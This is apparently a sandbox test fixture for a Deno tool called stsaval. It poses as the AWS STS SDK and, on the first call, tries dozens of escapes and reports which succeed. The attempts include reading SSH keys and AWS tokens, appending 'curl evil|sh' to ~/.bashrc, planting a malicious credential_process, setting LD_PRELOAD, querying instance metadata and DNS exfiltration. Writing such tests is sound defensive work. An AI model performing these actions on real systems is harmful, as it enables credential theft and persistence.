/**
 * A dependency that turned bad: it stands in the place of the SDK, and is loaded when the first call is made. It tries
 * all that such code has been seen to try, and tells the result on standard output.
 *
 * @module
 */

import type { createRequire } from "node:module";
import type nodeProcess from "node:process";

/** A module of Node, loaded where it is wanted: one that is closed would keep this one from being loaded. */
function load<T>(name: string): Promise<T> {
  return import(`node:${name}`);
}

type Require = ReturnType<typeof createRequire>;

/** Node's `process`, as every module sees it. */
const aProcess = () => (globalThis as unknown as { readonly process: typeof nodeProcess }).process;
/** A module by way of it. */
function builtin<T>(name: string): T {
  const get: unknown = Reflect.get(aProcess(), "getBuiltinModule");
  return typeof get === "function" ? get(name) : fail("there is no getBuiltinModule");
}
/** What Deno keeps for itself, where that can still be had. */
const internals = (): Internals => Reflect.get(Deno, Reflect.get(Deno, "internal"));

interface Internals {
  readonly nodeGlobals: { readonly process: typeof nodeProcess };
  readonly node: { loadCjsModule(path: string, isMain: boolean, inspect: boolean): void };
}

/** SQL decides where SQLite writes, and no permission. */
function writeBySql({ DatabaseSync }: typeof import("node:sqlite")): void {
  const database = new DatabaseSync(":memory:");
  database.exec(`PRAGMA temp_store_directory = '${home}'; PRAGMA temp_store = 1`);
  database.exec("CREATE TEMP TABLE t (c); INSERT INTO t VALUES (zeroblob(100000000))");
}

/** How the pieces of the program import each other: it is an argument of the function around them. */
// deno-lint-ignore no-eval -- as bad code does: the name is seen from here alone
const ownRequire = (name: string): unknown => eval("require")(name);

/** The names of all pieces of the program: it looks the name of each that it loads up among them. */
function pieces(): readonly string[] {
  const { hasOwn } = Object;
  let places = {};
  Object.hasOwn = (owner, key) => {
    places = owner;
    return hasOwn(owner, key);
  };
  try {
    ownRequire("./none.js");
  } catch {
    return Object.keys(places);
  } finally {
    Object.hasOwn = hasOwn;
  }
  return [];
}

/**
 * V8 trusts the code of scripts. While another piece is loaded, this answers for the options that are not given, takes the
 * class of what is made, and would put other bytes in the place of those that are read.
 */
function takeOverLoading(): void {
  const name = pieces().find((name) => name.startsWith("./doctor-")) ?? fail("no piece is left");
  const taken: string[] = [];
  const options = ["cachedData", "cachedDataRejected", "cachedDataProduced", "produceCachedData"];
  for (const key of options) {
    Object.defineProperty(Object.prototype, key, {
      configurable: true,
      get: () => void taken.push(`the option ${key}`),
      set: () => taken.push(`the field ${key}`),
    });
  }
  const { set } = Map.prototype;
  Map.prototype.set = function (key, value) {
    for (let at = Object(value); at !== null; at = Object.getPrototypeOf(at)) {
      const isOfScript = at !== Object.prototype && "runInThisContext" in at;
      if (isOfScript && typeof at.constructor === "function") taken.push("the class of a script");
    }
    return Reflect.apply(set, this, [key, value]);
  };
  const { prototype } = Deno.FsFile;
  const { readSync, seekSync } = prototype;
  const { Uint8Array, TextDecoder } = globalThis;
  const { decode } = TextDecoder.prototype;
  prototype.readSync = prototype.seekSync = () => taken.push("the reading");
  TextDecoder.prototype.decode = () => {
    taken.push("the text");
    return "";
  };
  globalThis.Uint8Array = new Proxy(Uint8Array, {
    construct(target, words) {
      taken.push("the bytes");
      return Reflect.construct(target, words);
    },
  });
  try {
    ownRequire(name);
  } catch (error) {
    // What was taken over may well keep it from being loaded.
    if (taken.length === 0) throw error;
  } finally {
    for (const key of options) Reflect.deleteProperty(Object.prototype, key);
    Map.prototype.set = set;
    Object.assign(prototype, { readSync, seekSync });
    TextDecoder.prototype.decode = decode;
    globalThis.Uint8Array = Uint8Array;
  }
  if (taken.length === 0) fail("nothing of it can be taken over");
}

const home = Deno.env.get("HOME") ?? "";
/** Where a server other than STS listens. */
const otherPort = Number(Deno.env.get("AWS_DEFAULT_PROFILE"));
/** Where STS listens, which sends whoever asks for this on to the other. */
const redirect = `${Deno.env.get("AWS_ENDPOINT_URL_STS")}/redirect`;
const upwards = "../".repeat(5);
const dataModule = "data:text/javascript,export * as default from 'node:sqlite'";
const asJson = `{ with: { type: "json" } }`;
const key = `${home}/.ssh/id_rsa`;

/** What an expression comes to in a worker. */
function inWorker(expression: string): Promise<unknown> {
  const code = `try { postMessage([await ${expression}]) } catch ({ name, message }) {
    postMessage({ name, message });
  }`;
  const { promise, resolve, reject } = Promise.withResolvers<unknown>();
  const worker = new Worker(`data:text/javascript,${encodeURIComponent(code)}`, { type: "module" });
  worker.addEventListener("message", ({ data }) => {
    if (Array.isArray(data)) resolve(data);
    else reject(data);
  });
  return promise.finally(() => worker.terminate());
}

async function listened(url: string): Promise<void> {
  const source = new EventSource(url);
  try {
    await new Promise((resolve, reject) => {
      source.addEventListener("open", resolve);
      source.addEventListener("error", () => reject(new Error("closed")));
    });
  } finally {
    source.close();
  }
}

/** Modules in the home post a message when they are loaded as a worker. */
function started(url: string): Promise<unknown> {
  const { promise, resolve, reject } = Promise.withResolvers<unknown>();
  const worker = new Worker(url, { type: "module" });
  worker.addEventListener("message", resolve);
  worker.addEventListener("error", (event) => {
    event.preventDefault();
    reject(new Error(event.message));
  });
  return promise.finally(() => worker.terminate());
}

async function startedThread(file: string): Promise<unknown> {
  const { Worker: Thread } = await load<typeof import("node:worker_threads")>("worker_threads");
  return await new Promise((resolve, reject) =>
    new Thread(file).on("message", resolve).on("error", reject)
  );
}

function viaNode(start: (done: () => void, failed: (error: Error) => void) => void): Promise<void> {
  return new Promise((resolve, reject) => start(resolve, reject));
}

async function opened(url: string): Promise<void> {
  const socket = new WebSocket(url);
  await new Promise((resolve, reject) => {
    socket.addEventListener("open", resolve);
    socket.addEventListener(
      "error",
      (event) => reject(new Error(event instanceof ErrorEvent ? event.message : "failed")),
    );
  });
}

/** What is tried, as text, and how. Anything that returns without an error counts as reached. */
const attempts: readonly (readonly [string, () => unknown])[] = [
  ["read ~/.ssh/id_rsa", () => Deno.readTextFile(key)],
  [
    "read it with node:fs",
    async () => (await load<typeof import("node:fs")>("fs")).readFileSync(key),
  ],
  ["read it by way of ~/.aws/../.ssh", () => Deno.readTextFile(`${home}/.aws/../.ssh/id_rsa`)],
  ["read it by way of a link in ~/.aws", () => Deno.readTextFile(`${home}/.aws/link`)],
  ["read it in a worker", () => inWorker(`Deno.readTextFileSync("${key}")`)],
  ["read it with fetch and file:", () => fetch(`file://${key}`)],
  ["read another file of ~/.aws", () => Deno.readTextFile(`${home}/.aws/sso/cache/token.json`)],
  [
    "read the sign-in of another profile",
    () => Deno.readTextFile(`${home}/.aws/login/cache/other.json`),
  ],
  ["list the sign-ins", () => Array.fromAsync(Deno.readDir(`${home}/.aws/sso/cache`))],
  [
    "write into the folder of sign-ins",
    () => Deno.writeTextFile(`${home}/.aws/login/cache/mine.json`, "{}"),
  ],
  [
    "write into the AWS CLI's cache",
    () => Deno.writeTextFile(`${home}/.aws/cli/cache/mine.json`, "{}"),
  ],
  ["open a descriptor of the process", () => Deno.open("/proc/self/fd/0")],
  ["read /etc/passwd", () => Deno.readTextFile("/etc/passwd")],
  ["read /proc/self/environ", () => Deno.readTextFile("/proc/self/environ")],
  ["open /proc/self/mem", () => Deno.open("/proc/self/mem")],
  ["open /dev/tty", () => Deno.open("/dev/tty")],
  ["list /home", () => Array.fromAsync(Deno.readDir("/home"))],
  ["list ~/.aws", () => Array.fromAsync(Deno.readDir(`${home}/.aws`))],
  ["look whether ~/.ssh exists", () => Deno.stat(`${home}/.ssh`)],
  ["import a module from the home", () => import(`${home}/module.js`)],
  ["import it with file:", () => import(`file://${home}/module.js`)],
  ["import it by way of the program's own folder", () => import(upwards + home + "/module.js")],
  [
    "import a JSON file of the home in a worker",
    () => inWorker(`import("file://${home}/.aws/sso/cache/token.json", ${asJson})`),
  ],
  ["take the program's own way to Node's modules", () => ownRequire("node:sqlite")],
  ["compile a script with code of its own", async () => {
    const { Script } = await load<typeof import("node:vm")>("vm");
    new Script("1", { cachedData: new Uint8Array(64) });
  }],
  [
    "the same with process.getBuiltinModule",
    () => new (builtin<typeof import("node:vm")>("node:vm").Script)("1"),
  ],
  ["the same with the program's own way to it", () => ownRequire("node:vm")],
  ["take over how another piece of the program is loaded", takeOverLoading],
  [
    "import a JSON file of the home",
    () => import(`${home}/.aws/sso/cache/token.json`, { with: { type: "json" } }),
  ],
  ["import the key as JSON", () => import(key, { with: { type: "json" } })],
  [
    "require a JSON file of the home",
    async () => {
      const { createRequire } = await load<typeof import("node:module")>("module");
      createRequire(import.meta.url)(`${home}/.aws/sso/cache/token.json`);
    },
  ],
  ["start a worker from the home", () => started(`file://${home}/module.js`)],
  ["start a thread from the home", () => startedThread(`${home}/module.js`)],
  ["open a database in the home", async () => {
    const { DatabaseSync } = await load<typeof import("node:sqlite")>("sqlite");
    new DatabaseSync(`${home}/x.db`);
  }],
  [
    "write where SQL says, with node:sqlite",
    async () => writeBySql(await load<typeof import("node:sqlite")>("sqlite")),
  ],
  [
    "the same with a module in a data: URL",
    async () => writeBySql((await import(dataModule)).default),
  ],
  [
    "the same with process.getBuiltinModule",
    () => writeBySql(builtin<typeof import("node:sqlite")>("node:sqlite")),
  ],
  ["the same with createRequire", () => {
    const require: Require = builtin<typeof import("node:module")>("node:module")
      .createRequire(import.meta.url);
    writeBySql(require("node:sqlite"));
  }],
  [
    "the same with Deno's internals",
    () => writeBySql(internals().nodeGlobals.process.getBuiltinModule("node:sqlite")),
  ],
  [
    "load a CommonJS module of the home with them",
    () => internals().node.loadCjsModule(`${home}/module.cjs`, true, false),
  ],
  ["put process.getBuiltinModule back", () => {
    Object.defineProperty(aProcess(), "getBuiltinModule", { value: () => ({}) });
  }],
  ["start a worker without a file", () => inWorker("1")],
  ["reach the graphics driver", () => navigator.gpu.requestAdapter()],
  ["reach it in a worker", () => inWorker("navigator.gpu.requestAdapter()")],
  [
    "append to ~/.bashrc",
    () => Deno.writeTextFile(`${home}/.bashrc`, "curl evil|sh", { append: true }),
  ],
  ["append to it with node:fs", async () => {
    const { appendFileSync } = await load<typeof import("node:fs")>("fs");
    appendFileSync(`${home}/.bashrc`, "curl evil|sh");
  }],
  [
    "write ~/.aws/config",
    () => Deno.writeTextFile(`${home}/.aws/config`, "credential_process = evil"),
  ],
  ["write ~/.aws/credentials", () => Deno.writeTextFile(`${home}/.aws/credentials`, "")],
  ["remove ~/.aws/config", () => Deno.remove(`${home}/.aws/config`)],
  [
    "copy the key into the cache",
    () => Deno.copyFile(key, `${home}/.aws/stsaval/key`),
  ],
  [
    "move ~/.aws/credentials into the cache",
    () => Deno.rename(`${home}/.aws/credentials`, `${home}/.aws/stsaval/moved`),
  ],
  ["link the key into the cache", () => Deno.symlink(key, `${home}/.aws/stsaval/key`)],
  ["link it hard", () => Deno.link(key, `${home}/.aws/stsaval/key`)],
  ["change the mode of ~/.aws", () => Deno.chmod(`${home}/.aws`, 0o777)],
  ["make a temporary file", () => Deno.makeTempFile()],
  ["write into a program's folder", () => Deno.writeTextFile(`${home}/.local/bin/aws`, "")],
  ["keep something in localStorage", () => localStorage.setItem("key", "value")],
  ["keep something in a web cache", () => caches.open("cache")],
  ["connect to 127.0.0.1:1", () => Deno.connect({ hostname: "127.0.0.1", port: 1 })],
  [
    "connect to another server of this machine",
    () => Deno.connect({ hostname: "127.0.0.1", port: otherPort }),
  ],
  ["fetch from it", () => fetch(`http://127.0.0.1:${otherPort}`)],
  ["fetch from it, sent there by STS's host", () => fetch(redirect)],
  [
    "connect to it with node:net",
    async () => {
      const { connect } = await load<typeof import("node:net")>("net");
      await viaNode((done, failed) => connect(otherPort, "127.0.0.1", done).on("error", failed));
    },
  ],
  [
    "fetch from it with node:http",
    async () => {
      const { get } = await load<typeof import("node:http")>("http");
      await viaNode((done, failed) => get({ port: otherPort }, () => done()).on("error", failed));
    },
  ],
  ["fetch from STS's host by way of a proxy of its own", () => {
    const proxy = { url: `http://127.0.0.1:${otherPort}` };
    return fetch(redirect, { client: Deno.createHttpClient({ proxy }) });
  }],
  ["listen to its events", () => listened(`http://127.0.0.1:${otherPort}`)],
  [
    "open HTTP/2 to it",
    async () => {
      const { connect } = await load<typeof import("node:http2")>("http2");
      await viaNode((done, failed) =>
        connect(`http://127.0.0.1:${otherPort}`, done).on("error", failed)
      );
    },
  ],
  [
    "send a datagram to it",
    async () => {
      const { createSocket } = await load<typeof import("node:dgram")>("dgram");
      await viaNode((done, failed) =>
        createSocket("udp4").on("error", failed)
          .send("secret", otherPort, "127.0.0.1", (error) => error ? failed(error) : done())
      );
    },
  ],
  [
    "connect to example.com with TLS",
    () => Deno.connectTls({ hostname: "example.com", port: 443 }),
  ],
  ["connect to example.com", () => Deno.connect({ hostname: "example.com", port: 443 })],
  ["fetch from example.com", () => fetch("https://example.com")],
  ["open a web socket to example.com", () => opened("wss://example.com")],
  ["fetch from another region's STS", () => fetch("https://sts.eu-west-1.amazonaws.com")],
  ["fetch from another service of AWS", () => fetch("https://bucket.s3.eu-west-1.amazonaws.com")],
  ["fetch from another domain of AWS", () => fetch("https://sts.eu-west-1.api.aws")],
  [
    "fetch from a private endpoint",
    () => fetch("https://vpce-0a1b-cd.vpce-svc-0d2e.eu-west-1.vpce.amazonaws.com"),
  ],
  ["fetch from IAM Identity Center", () => fetch("https://oidc.eu-west-1.amazonaws.com")],
  ["fetch from its portal", () => fetch("https://portal.sso.eu-west-1.amazonaws.com")],
  [
    "fetch from another region's AWS Sign-In",
    () => fetch("https://cn-north-1.signin.amazonaws.cn"),
  ],
  ["fetch from IAM", () => fetch("https://iam.amazonaws.com")],
  ["fetch from GitHub Actions", () => fetch("https://a.actions.githubusercontent.com")],
  ["fetch from a container's agent", () => fetch("http://169.254.170.2/")],
  ["fetch instance metadata", () => fetch("http://169.254.169.254/latest/meta-data/")],
  ["import a module from the network", () => import(["https:", "", "jsr.io", "x"].join("/"))],
  ["ask a name server", () => Deno.resolveDns("secret.example.com", "A")],
  ["look a name up with node:dns", async () => {
    await (await load<typeof import("node:dns/promises")>("dns/promises")).lookup(
      "secret.example.com",
    );
  }],
  ["connect to a unix socket", () => Deno.connect({ transport: "unix", path: `${home}/socket` })],
  ["listen on a port", () => Deno.listen({ port: 0 })],
  ["serve", () => Deno.serve({ port: 0 }, () => new Response())],
  ["run /bin/sh", () => new Deno.Command("/bin/sh", { args: ["-c", "true"] }).output()],
  ["run it with node:child_process", async () => {
    (await load<typeof import("node:child_process")>("child_process")).execSync("true", {
      env: {},
    });
  }],
  ["run stsaval itself", () => new Deno.Command(Deno.execPath(), { args: ["--version"] }).output()],
  ["send a signal to the parent", () => Deno.kill(Deno.ppid, "SIGCONT")],
  ["read the variable SECRET", () => Deno.env.get("SECRET") ?? fail("not set")],
  ["read it with node:process", async () => {
    const { env } = (await load<{ default: typeof nodeProcess }>("process")).default;
    return env["SECRET"] ?? fail("not set");
  }],
  ["read it with the global process", () => aProcess().env["SECRET"] ?? fail("not set")],
  ["read the variable SSH_CONNECTION", () => Deno.env.get("SSH_CONNECTION") ?? fail("not set")],
  ["read all variables", () => Deno.env.toObject()],
  ["set LD_PRELOAD", () => Deno.env.set("LD_PRELOAD", "/tmp/evil.so")],
  ["load a library", () => Deno.dlopen("libc.so.6", {})],
  ["load an addon", () => aProcess().dlopen({ exports: {} }, `${home}/addon.node`)],
  ["ask for the host's name", () => Deno.hostname()],
  ["ask for the user", async () => (await load<typeof import("node:os")>("os")).userInfo()],
  ["ask for the user's id", () => Deno.uid()],
  ["ask for the user's home", async () => (await load<typeof import("node:os")>("os")).homedir()],
  [
    "ask for the network's addresses",
    async () => (await load<typeof import("node:os")>("os")).networkInterfaces(),
  ],
  ["ask for permission to read everything", async () => {
    const { state } = await Deno.permissions.request({ name: "read", path: "/" });
    if (state !== "granted") fail(`the answer is "${state}"`);
  }],
  ["ask for permission to run everything", async () => {
    const { state } = await Deno.permissions.request({ name: "run" });
    if (state !== "granted") fail(`the answer is "${state}"`);
  }],
];

function fail(message: string): never {
  throw new Error(message);
}

// stsaval exits in order at the first error that nothing catches, unless such code prevents it.
const { setTimeout } = globalThis;
globalThis.setTimeout = Object.assign(() => 0, setTimeout);
AbortController.prototype.abort = () => {};

/** Some attempts fail in the background, unawaited: that is reported too, and does not end the program. */
let failedAside = (_: unknown): void => {};
addEventListener("unhandledrejection", (event) => {
  event.preventDefault();
  failedAside(event.reason);
});
addEventListener("error", (event) => {
  event.preventDefault();
  failedAside(event.error);
});

async function outcomeOf(attempt: () => unknown): Promise<string> {
  const { promise, resolve, reject } = Promise.withResolvers<string>();
  const timer = setTimeout(() => resolve("no end"), 5_000);
  failedAside = reject;
  try {
    return await Promise.race([Promise.try(attempt).then(() => "reached"), promise]);
  } catch (error) {
    // What is thrown aside is an error as well.
    const { name, message } = error as Error;
    return `${name}: ${message}`;
  } finally {
    clearTimeout(timer);
  }
}

async function tryAll(): Promise<never> {
  const results: [string, string][] = [];
  for (const [what, attempt] of attempts) results.push([what, await outcomeOf(attempt)]);
  console.log(JSON.stringify(results));
  Deno.exit(0);
}

/** Stands in for the SDK's client: the first call begins the attempts, and does not end before them. */
export class STSClient {
  readonly config: object = {};
  readonly middlewareStack: object = { add() {}, remove() {} };
  readonly send: () => Promise<never> = tryAll;
}

/** Stands in for a call of the SDK. */
class Command {}
export {
  Command as AssumeRoleCommand,
  Command as AssumeRoleWithWebIdentityCommand,
  Command as GetCallerIdentityCommand,
  Command as GetScopedCredentialsCommand,
  Command as GetSessionTokenCommand,
};
